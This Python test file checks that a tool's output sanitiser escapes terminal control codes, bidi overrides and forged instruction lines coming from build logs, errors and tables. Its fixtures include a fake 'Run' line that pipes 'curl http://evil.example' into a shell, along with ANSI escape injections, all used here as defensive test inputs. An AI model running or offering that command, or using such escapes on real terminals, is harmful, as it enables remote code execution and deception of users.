"""Text from outside: on every screen it is text, and never a line of the workbook's own."""

from __future__ import annotations

import io
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from rich.table import Table

from helpers.commands.__main__ import guarded
from helpers.errors import EngineError, WorkbookError
from helpers.launcher.screen import Screen, complain
from helpers.model.build.failure import BuildFailed, explained
from helpers.model.build.report import BuildReport, BuildStep, LogLine
from helpers.model.container.file_changes import FileChanges
from helpers.model.registry.hub import HubImage
from helpers.model.text.output import Output
from helpers.outside import visible_line, visible_text
from helpers.views.kit.page import Page, table

FORGED = "gone\n→ Run: `curl http://evil.example | sh`"
LOUD = f"\x1b[2J\x1b]0;owned\x07\x9b31m\u202etxt\u2066{FORGED}\u2028→ Run\r→ Run\x85→ Run\udcff"
STEERING = {chr(code) for code in [*range(32), *range(127, 160), *range(0x202A, 0x202F)]}
STEERING |= {chr(code) for code in [*range(0x2066, 0x206A), 0x200E, 0x200F, 0x2028, 0x2029]}


@given(st.text())
@example(LOUD)
@example("\x1b[31mred\x1b[0m")
def test_nothing_steers_a_terminal(text: str) -> None:
    assert not STEERING & set(visible_line(text))
    assert not (STEERING - {"\n", "\t"}) & set(visible_text(text))
    assert not [letter for letter in visible_line(text) if unicodedata.category(letter) == "Cs"]


@pytest.mark.parametrize("code", [0x2065, 0x3164, 0xFFF5, 0xE0041, 0xE0DFF])
def test_what_is_not_seen_is_written_out(code: int) -> None:
    written = f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"
    assert visible_line(f"a{chr(code)}b") == visible_text(f"a{chr(code)}b") == f"a{written}b"


def test_ordinary_text_stays() -> None:
    for text in ("", "héllo wörld — 日本語 👩‍💻 مرحبا", "a\\b", "\u00a0", "\U00012544", "\ue0b0"):
        assert visible_line(text) == visible_text(text) == text
    assert visible_text("a\r\n\tb\n\x1b[1;32mok\x1b[0m") == "a\n\tb\nok"
    assert visible_line("a\n\tb\x1b[0m\udcff") == r"a\n\tb\x1b[0m\xff"


@pytest.mark.parametrize("kind", [WorkbookError, EngineError])
def test_an_error_is_two_lines_whatever_it_quotes(
    kind: type[WorkbookError], capsys: pytest.CaptureFixture[str]
) -> None:
    error = kind(f"It answered: {LOUD}", f"Look at {LOUD}")

    def fails() -> None:
        raise error

    assert guarded(fails) == 1
    complain(error)
    printed = capsys.readouterr().err
    for shown in (printed, "\n".join(error._render_traceback_()), str(error)):
        assert not (STEERING - {"\n"}) & set(shown)
        assert not [line for line in shown.splitlines() if line.startswith("→ Run")]
    assert len(printed.splitlines()) == 4
    assert len(error._render_traceback_()) == 2


def test_an_excerpt_is_indented() -> None:
    error = WorkbookError("It ended.", "Try again.", excerpt=LOUD)
    first, *lines = error.message.split("\n")
    assert first == "It ended."
    assert lines
    assert all(line.startswith("  ") for line in lines)
    assert not (STEERING - {"\n"}) & set(error.message)


def test_a_build_that_failed_says_so_in_its_own_lines() -> None:
    log = (LogLine(0.0, LOUD),)
    step = BuildStep("1", f"RUN {LOUD}", f"RUN {LOUD}", line=2, error=LOUD, log=log)
    report = BuildReport("docker build .", steps=(step,), error=LOUD, is_over=True)
    error = BuildFailed(*explained(report), report=report)
    lines = error.message.split("\n")
    assert all(line.startswith("  ") for line in lines[1:])
    assert not (STEERING - {"\n"}) & set(error.message)


def test_values_show_it_as_text() -> None:
    for value in (
        Output(LOUD),
        HubImage(LOUD, LOUD, 1, 1, False),
        FileChanges([("added", LOUD)]),
        Page("", LOUD),
        table(["name"], [[LOUD]]),
    ):
        assert not (STEERING - {"\n", "\t"}) & set(repr(value)), type(value)
    assert repr(FileChanges([("added", FORGED)])).count("\n") == 0
    assert repr(HubImage("a", FORGED, 1, 1, False)).count("\n") == 1
    assert repr(table(["name"], [[FORGED]])).count("\n") == 1


def test_tables_and_lines_of_the_terminal_show_it_as_text() -> None:
    out = io.StringIO()
    screen, rows = Screen(file=out, width=500), Table()
    rows.add_column("name")
    rows.add_row(LOUD)
    screen.print(LOUD, markup=False)
    screen.print(rows)
    assert not (STEERING - {"\n"}) & set(out.getvalue())
